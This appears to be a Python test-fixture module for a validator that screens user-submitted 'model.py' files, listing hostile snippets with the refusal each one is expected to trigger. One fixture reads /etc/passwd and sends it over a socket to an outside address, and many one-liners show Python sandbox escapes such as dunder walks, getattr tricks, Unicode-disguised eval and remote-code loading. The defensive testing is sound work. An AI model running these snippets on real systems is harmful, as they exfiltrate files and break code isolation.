"""Files called ``model.py`` that try to reach files, processes, the network, or code from text.

Each is a whole file; none may ever be imported.
"""

from __future__ import annotations

import textwrap

from good_packages import GOOD_CODE, refused

CANARY = "canary-of-the-hostile-package"
"""A file that hostile code would make, were it ever to run."""


def _with(lines: str) -> str:
    return GOOD_CODE + "\n\n" + textwrap.dedent(lines).lstrip("\n")


def _attack(name: str, code: str, lines: str) -> None:
    """Define one more hostile file."""

    def build() -> str:
        return _with(lines)

    build.__name__ = name
    globals()[name] = refused(code)(build)


@refused("import_not_allowed")
def reads_passwd_and_opens_a_socket() -> str:
    return f'''\
import os
import socket

from safetensors.torch import load_file

open("{CANARY}", "w").write("it ran")
secrets = open("/etc/passwd").read()
s = socket.socket()
s.connect(("203.0.113.1", 80))
s.send(secrets.encode())
os.system("id")


def load_model(weights_path, num_classes=2, **model_params):
    return load_file(weights_path)
'''


@refused("load_model_missing")
def no_load_model() -> str:
    return "import torch\n"


@refused("load_model_signature")
def load_model_without_classes() -> str:
    return "def load_model(weights_path):\n    return None\n"


@refused("syntax_error")
def broken_python() -> str:
    return "def load_model(:\n"


@refused("syntax_error")
def null_byte() -> str:
    return GOOD_CODE + "\0"


@refused("syntax_error")
def nested_too_deeply() -> str:
    return "x = " + "-" * 100_000 + "1\n"


@refused("code_too_large")
def braces_in_an_fstring() -> str:
    return 'x = f"' + "{a}" * 30_000 + '"\n'


@refused("code_too_large")
def too_large() -> str:
    return GOOD_CODE + "# " + "x" * 300_000


@refused("encoding")
def code_in_another_encoding() -> bytes:
    return b"# coding: utf-7\n" + GOOD_CODE.encode() + b"+AG8AcABlAG4-('/etc/passwd')\n"


@refused("invisible_character")
def text_that_reads_backwards() -> str:
    return GOOD_CODE + '# "\u202e nothing to see \u202c"\n'


_ATTACKS: dict[str, tuple[str, str]] = {
    "import_under_another_name": ("import_not_allowed", "import os as torch_utils"),
    "import_in_a_function": ("import_not_allowed", "def f():\n    import subprocess"),
    "import_in_a_class_body": ("import_not_allowed", "class A:\n    import ctypes"),
    "import_after_failure": ("import_not_allowed", "try:\n    import torch\nexcept ImportError:\n    import os"),
    "from_import_of_a_function": ("import_not_allowed", "from os import system"),
    "from_import_of_hub": ("import_not_allowed", "from torch import hub"),
    "from_import_of_load": ("import_not_allowed", "from torch import load"),
    "from_import_of_a_handed_on_module": ("import_not_allowed", "from functools import sys"),
    "import_of_loaders": ("import_not_allowed", "import torch.utils.data"),
    "import_of_cpp_extension": ("import_not_allowed", "import torch.utils.cpp_extension"),
    "import_of_huggingface_hub": ("import_not_allowed", "import huggingface_hub"),
    "import_of_real_paths": ("import_not_allowed", "from pathlib import Path"),
    "import_of_ctypeslib": ("import_not_allowed", "import numpy.ctypeslib"),
    "import_of_private_module": ("import_not_allowed", "import torch._C"),
    "relative_import": ("import_not_allowed", "from . import helper"),
    "star_import": ("star_import", "from torch import *"),
    "torch_load": ("name_not_allowed", 'x = torch.load("model.bin")'),
    "torch_load_under_another_name": ("name_not_allowed", 'import torch as t\nx = t.load("model.bin")'),
    "torch_hub": ("name_not_allowed", 'x = torch.hub.load("a/b", "c")'),
    "torch_jit": ("name_not_allowed", 'x = torch.jit.load("a.pt")'),
    "torch_package": ("name_not_allowed", 'x = torch.package.PackageImporter("a")'),
    "torch_load_library": ("name_not_allowed", 'torch.ops.load_library("a.so")'),
    "torch_classes": ("name_not_allowed", 'torch.classes.load_library("a.so")'),
    "torch_hands_on_os": ("name_not_allowed", 'torch.os.system("id")'),
    "functional_hands_on_importlib": ("name_not_allowed", 'F.importlib.import_module("os")'),
    "nn_hands_on_torch": ("name_not_allowed", "nn.modules.module.torch.hub"),
    "numpy_load": ("name_not_allowed", 'import numpy as np\nnp.load("a.npy", allow_pickle=True)'),
    "numpy_fromfile": ("name_not_allowed", 'import numpy as np\nnp.fromfile("/etc/passwd")'),
    "numpy_memmap": ("name_not_allowed", 'import numpy as np\nnp.memmap("/etc/passwd")'),
    "numpy_strides": ("name_not_allowed", "import numpy as np\nnp.lib.stride_tricks.as_strided"),
    "array_to_file": ("attribute_refused", 'import numpy as np\nnp.zeros(3).tofile("x")'),
    "array_to_pointer": ("attribute_refused", "import numpy as np\nnp.zeros(3).ctypes"),
    "image_open": ("name_not_allowed", 'from PIL import Image\nImage.open("/etc/x.png")'),
    "cv2_imread": ("name_not_allowed", 'import cv2\ncv2.imread("/etc/x.png")'),
    "dataclasses_hand_on_builtins": ("name_not_allowed", "import dataclasses\ndataclasses.builtins"),
    "annotations_that_are_evaluated": ("import_not_allowed", "from typing import get_type_hints"),
    "singledispatch": ("name_not_allowed", "import functools\nfunctools.singledispatch"),
    "wraps_copies_attributes": ("name_refused", "import functools\nfunctools.wraps(F.relu, assigned=('x',))"),
    "module_in_a_variable": ("module_as_value", 't = torch\nt.hub.load("x")'),
    "module_in_a_list": ("module_as_value", "x = [torch]"),
    "module_as_an_argument": ("module_as_value", "f = lambda m: m.hub\nf(torch)"),
    "submodule_in_a_variable": ("module_as_value", "m = torch.nn"),
    "getattr_with_a_literal": ("name_not_allowed", 'getattr(torch, "hub")'),
    "getattr_chain": ("name_not_allowed", 'getattr(getattr(torch, "nn"), "modules")'),
    "getattr_with_a_sum": ("name_refused", 'getattr(torch, "h" + "ub")'),
    "getattr_with_an_fstring": ("name_refused", 'x = "hub"\ngetattr(torch, f"{x}")'),
    "getattr_in_a_variable": ("name_refused", 'g = getattr\ng(torch, "hub")'),
    "getattr_through_map": ("name_refused", 'list(map(getattr, [1], ["x"]))'),
    "getattr_with_star": ("name_refused", 'getattr(*[torch, "hub"])'),
    "getattr_of_a_dunder": ("dunder", 'getattr(F.relu, "__globals__")'),
    "setattr_on_a_library": ("monkeypatch", 'setattr(nn.Module, "forward", None)'),
    "assignment_to_a_library": ("monkeypatch", "nn.Module.__call__ = None"),
    "deletion_from_a_library": ("monkeypatch", "del torch.Tensor"),
    "eval_call": ("name_refused", 'eval("1")'),
    "exec_call": ("name_refused", 'exec("import os")'),
    "compile_call": ("name_refused", 'compile("1", "x", "eval")'),
    "open_call": ("name_refused", 'open("/etc/passwd")'),
    "input_call": ("name_refused", "input()"),
    "breakpoint_call": ("name_refused", "breakpoint()"),
    "globals_call": ("name_refused", 'globals()["x"]'),
    "vars_call": ("name_refused", "vars(torch)"),
    "locals_call": ("name_refused", "locals()"),
    "dunder_import": ("dunder", '__import__("os")'),
    "builtins_table": ("dunder", '__builtins__["eval"]'),
    "loader_of_the_module": ("dunder", "__loader__"),
    "eval_in_wide_letters": ("name_refused", '\uff45\uff56\uff41\uff4c("1")'),
    "eval_in_a_variable": ("name_refused", "e = eval"),
    "eval_hidden_by_a_local_name": ("name_refused", 'def f():\n    open = 1\n\n\nopen("/etc/passwd")'),
    "open_past_a_parameter": ("name_refused", "def f(open):\n    class A:\n        x = open\n        open = 1"),
    "open_in_the_default_of_a_parameter": ("name_refused", 'def f(open=open("/etc/passwd")): ...'),
    "open_declared_global": (
        "name_refused",
        "def f(open):\n    def g():\n        global open\n        open(1)",
    ),
    "exec_as_a_decorator": ("name_refused", "@exec\nclass A: ..."),
    "open_in_an_annotation": ("name_refused", 'def f(x: open("/etc/passwd")): ...'),
    "open_in_a_default": ("name_refused", 'def f(x=open("/etc/passwd")): ...'),
    "open_in_a_class_body": ("name_refused", 'class A:\n    x = open("/etc/passwd")'),
    "open_as_a_base_class": ("name_refused", "class A(open): ..."),
    "open_as_a_metaclass": ("name_refused", "class A(metaclass=open): ..."),
    "eval_in_an_fstring": ("name_refused", "f\"{eval('1')}\""),
    "open_in_a_lambda": ("name_refused", 'f = lambda: open("/etc/passwd")'),
    "open_in_a_comprehension": ("name_refused", 'x = [open(p) for p in ["/etc/passwd"]]'),
    "subclasses_of_object": ("dunder", "().__class__.__base__.__subclasses__()"),
    "globals_of_a_function": ("dunder", "F.relu.__globals__"),
    "frame_of_a_generator": ("attribute_refused", "(x for x in ()).gi_frame.f_back.f_builtins"),
    "frame_of_an_exception": ("attribute_refused", "try:\n    1 / 0\nexcept Exception as e:\n    e.x.tb_frame"),
    "dunder_in_a_pattern": ("dunder", "match F.relu:\n    case object(__globals__=g):\n        g"),
    "match_args": ("dunder", 'class A:\n    __match_args__ = ("__globals__",)'),
    "dunder_as_text": ("dunder", 'x = "__globals__"'),
    "attributes_by_format": ("dunder", 'x = "{0.__class__}".format(1)'),
    "attributes_by_stored_format": ("name_refused", 'x = "{0.a}"\ny = x.format(1)'),
    "attributes_by_format_map": ("attribute_refused", 'x = "{a}".format_map({})'),
    "class_by_type": ("name_refused", 'X = type("X", (), {})'),
    "hook_of_subclasses": ("dunder", "class A:\n    def __init_subclass__(cls): ..."),
    "reduce_of_pickle": ("dunder", 'class A:\n    def __reduce__(self): return (print, ("x",))'),
    "undefined_name": ("name_refused", "x = get_ipython()"),
    "weights_from_elsewhere": ("foreign_weights", 'x = load_file("/etc/other.safetensors")'),
    "weights_path_rebound": (
        "foreign_weights",
        'def load_model(weights_path, num_classes=2):\n    weights_path = "/etc/x"\n    load_file(weights_path)',
    ),
    "weights_path_in_a_default": (
        "foreign_weights",
        'weights_path = "/x"\n\n\ndef load_model(weights_path, num_classes=2, x=load_file(weights_path)): ...',
    ),
    "weights_path_through_a_false_wrapper": (
        "foreign_weights",
        'def str(x): return "/etc/x"\n\n\n'
        "def load_model(weights_path, num_classes=2):\n    load_file(str(weights_path))",
    ),
    "weights_path_called_with_another": ("foreign_weights", 'load_model("/etc/x")'),
    "loader_in_a_variable": ("name_refused", 'f = load_file\nf("/etc/x")'),
    "pretrained_from_elsewhere": (
        "foreign_weights",
        'from transformers import AutoModel\nAutoModel.from_pretrained("evil/repo")',
    ),
    "pretrained_above_the_folder": (
        "foreign_weights",
        "from pathlib import PurePath\nfrom transformers import AutoModel\n\n\n"
        "def load_model(weights_path, num_classes=2):\n"
        "    AutoModel.from_pretrained(PurePath(weights_path).parent.parent)",
    ),
    "pretrained_in_a_variable": (
        "name_refused",
        "from transformers import AutoModel\nf = AutoModel.from_pretrained",
    ),
    "trusts_remote_code": (
        "remote_code",
        "from transformers import AutoModel\nAutoModel.from_config(trust_remote_code=1)",
    ),
    "trusts_remote_code_in_a_table": ("remote_code", 'x = {"trust_remote_code": True}'),
    "checkpoint_of_timm": ("remote_code", 'import timm\ntimm.create_model("x", checkpoint_path="/x.pt")'),
    "download_by_timm": ("downloads_weights", 'import timm\ntimm.create_model("x", pretrained=True)'),
    "hub_of_timm": ("downloads_weights", 'import timm\ntimm.create_model("hf-hub:a/b")'),
    "pipeline_of_transformers": ("import_not_allowed", "from transformers import pipeline"),
    "yolo_unpickles": ("foreign_weights", 'from ultralytics import YOLO\nYOLO("evil.pt")'),
    "weights_of_torchvision": (
        "downloads_weights",
        'import torchvision.models as m\nm.resnet18(weights="DEFAULT")',
    ),
    "weights_of_torchvision_by_their_class": (
        "downloads_weights",
        "import torchvision.models as m\nm.resnet18(weights=m.ResNet18_Weights.DEFAULT)",
    ),
    "auto_map_in_a_call": (
        "remote_code",
        'from transformers import BertConfig\nBertConfig(auto_map={"AutoModel": "a--b"})',
    ),
    "open_module_hands_on_functools": ("name_not_allowed", "from PIL import ImageOps\nImageOps.functools"),
    "open_module_hands_on_struct": ("name_not_allowed", "from PIL import ImageDraw\nImageDraw.struct"),
    "font_from_a_file": ("attribute_refused", 'from PIL import ImageDraw\nImageDraw.ImageFont.truetype("/etc/x")'),
    "backend_that_loads_anything": ("import_not_allowed", "from ultralytics.nn.autobackend import AutoBackend"),
    "weights_of_flash_attention": ("import_not_allowed", "from flash_attn.utils import pretrained"),
    "load_state_dict_from_url": ("import_not_allowed", "from torchvision.models.utils import load_state_dict_from_url"),
}
for _name, (_code, _lines) in _ATTACKS.items():
    _attack(_name, _code, _lines)
